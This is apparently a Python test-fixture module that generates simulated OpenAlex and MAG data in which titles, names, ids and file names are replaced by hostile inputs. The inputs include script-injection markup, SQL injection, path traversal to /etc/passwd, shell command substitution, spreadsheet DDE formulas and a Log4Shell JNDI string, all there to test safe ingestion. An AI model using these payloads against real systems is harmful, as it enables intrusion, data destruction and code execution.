"""Values that are code to something: to a shell, a database, a spreadsheet, a browser, a template, a terminal.

A simulated snapshot, written anew with them as the names, types and titles of everything, as the names of its files,
and as ids: what nobody should write, and anybody can.
"""

from __future__ import annotations

import gzip
import json
import shutil
from collections import defaultdict
from collections.abc import Iterator
from pathlib import Path
from typing import Any

from ingest.mag_dump import TABLES
from scholarflow.simulate import simulate

URL = "https://openalex.org/"
#: In a browser: each would say so by `alert`, ask for an address, or leave an element or a style.
MARKUP = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</script><script>alert(2)</script>",
    "<!--<script>",
    "'-alert(3)-'",
    '"onmouseover="alert(4)',
    "javascript:alert(5)",
    '<svg/onload=alert(6)><a href="http://192.0.2.1/">x',
    "<style>body{display:none}</style>",
    "]]><iframe src=http://192.0.2.1/></iframe>",
    "&lt;b&gt; &amp; <b>&nbsp;</b>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
)
TEXTS = (
    *MARKUP,
    "../../../../../../etc/passwd",
    "/etc/passwd",
    "C:\\Windows\\System32\\",
    "'; DROP TABLE works; --",
    '" OR 1=1 --',
    "`id` $(id) ; id | id && id",
    '=HYPERLINK("http://192.0.2.1/?"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "-1",
    "${jndi:ldap://192.0.2.1/x}",
    "%s %n %d %x {0} {} %(x)s",
    "null",
    "NULL",
    "\\N",
    "nan",
    "[bold red]markup[/] :warning:",
    "\0",
    "a\0b",
    "\u202egnp.exe",
    "\x1b[2J\x1b]0;title\x07",
    "\ufffe\uffff\ufdd0",
    "a\u2028b\u2029c\x85d\x0be",
    "two\r\nlines\tand a tab",
    'a "quoted", comma',
    "Zalgo " + "a\u0300\u0301\u0302" * 20,
    "\U0001f9ea\U0001f468\u200d\U0001f469\u200d\U0001f467",
    " ",
    "",
    "long " * 20_000,
)
#: Of files: no "/" and no NUL, which no file system has in a name.
FILE_NAMES = (
    "'; DROP TABLE works; --",
    '=HYPERLINK("x")',
    "..%2F..%2Fetc%2Fpasswd",
    "<script>alert(1)<script>",
    "${jndi:ldap:x} $(id) `id` ; id | id && id",
    "two\nlines\r\tand a tab",
    "{a,b}*?[c]~!",
    "\u202egnp \x1b[2J",
    "\U0001f9ea 数据 é",
    "-rf --help",
    "C:\\a:b&c=d+e #%41?",
    "__HIVE_DEFAULT_PARTITION__",
)
#: What a manifest promises.
OUTSIDE = "../../../../../../../etc/passwd"
#: What an id is made of: its record is refused.
NO_IDS = tuple(
    f"{URL}W{text}" for text in ("../../../etc/passwd", "1; DROP TABLE works", "1 OR 1=1", "1\0", "1'", "＄1")
)

#: The field that the report names.
AI = f"{URL}C154945302"


def openalex_snapshot(folder: Path, *, works: int) -> tuple[dict[str, list[dict[str, Any]]], list[str]]:
    """A simulated snapshot with hostile text wherever a record has text, in part files of hostile names.

    Gives the records of each entity, and the lines that are to be refused. A manifest lists a file outside.
    """
    plain = folder.with_name("plain")
    simulate(plain, works=works, seed=5, format="openalex")
    records, entities = {}, folder / "data/jsonl"
    for entity in ("works", "authors", "institutions", "sources", "concepts", "topics"):
        records[entity] = list(_records(plain / "data/jsonl" / entity))
        lines: dict[str, list[str]] = defaultdict(list)
        for number, record in enumerate(records[entity]):
            text = MARKUP[1] if record["id"] == AI else TEXTS[number % len(TEXTS)]
            _rename(record, text, TEXTS[(number + 1) % len(TEXTS)])
            lines[FILE_NAMES[number % len(FILE_NAMES)]].append(json.dumps(record))
        for name, written in lines.items():
            path = entities / entity / name / f"{name}.gz"
            path.parent.mkdir(parents=True)
            path.write_bytes(gzip.compress("\n".join(written).encode(), mtime=0))
    refused = [json.dumps({"id": id_, "title": TEXTS[0], "publication_year": 2010}) for id_ in NO_IDS]
    refused += [f'{{"id":"{URL}W1","publication_year":2010,"title":"{half}"}}' for half in ("\\ud800x", "\\udc00")]
    (entities / "works/refused.jsonl").write_text("\n".join(refused))
    (entities / "works/manifest.json").write_text(json.dumps({"files": [{"url": f"s3://x/works/{OUTSIDE}"}]}))
    shutil.rmtree(plain)
    return records, refused


def _records(folder: Path) -> Iterator[dict[str, Any]]:
    for part in sorted(folder.rglob("*.gz")):
        yield from map(json.loads, gzip.decompress(part.read_bytes()).splitlines())


def _rename(record: dict[str, Any], text: str, other: str) -> None:
    record["display_name"] = text
    for member, value in record.items():
        if member in ("title", "language", "type"):
            record[member] = text
        elif member in ("subfield", "field", "domain"):
            value["display_name"] = other
        elif member == "keywords":
            record[member] = [{"id": f"{URL}keywords/{text}", "score": 0.9}]


def mag_dump(folder: Path, *, works: int) -> dict[str, dict[int, str]]:
    """A simulated dump with hostile text as the names of everything and as titles; gives them by table and id.

    A cell of a dump can hold neither a tab nor a line break.
    """
    simulate(folder, works=works, seed=5, format="mag")
    cells = [text for text in TEXTS if not {"\t", "\n"} & set(text)]
    given: dict[str, dict[int, str]] = {}
    for path in sorted(folder.rglob("*.txt")):
        columns = TABLES[path.stem].columns
        named = [columns.index(name) for name in ("DisplayName", "OriginalTitle", "PaperTitle") if name in columns]
        if named:
            rows = [line.split("\t") for line in path.read_text(encoding="utf-8").splitlines()]
            for number, row in enumerate(rows):
                for column in named:
                    row[column] = cells[number % len(cells)]
            given[path.stem] = {int(row[0]): row[named[0]] for row in rows}
            path.write_text("\n".join(map("\t".join, rows)), encoding="utf-8", newline="")
    return given
